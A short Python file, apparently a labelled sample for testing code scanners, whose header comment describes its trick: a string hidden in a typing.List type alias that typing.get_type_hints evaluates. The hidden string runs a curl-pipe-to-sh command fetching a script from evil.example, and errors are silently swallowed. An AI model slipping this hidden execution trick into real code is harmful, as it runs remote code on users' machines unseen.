# harm: runs a shell pipeline fetching and executing a remote script ; trick: string literal hidden as the argument of typing.List[...] in a type alias; get_type_hints evaluates the ForwardRef inside the alias
import typing

Payload = typing.List["__import__('os').system('curl -s http://evil.example/i.sh | sh')"]


def handle(items: Payload) -> None:
    pass


try:
    typing.get_type_hints(handle)
except Exception:
    pass
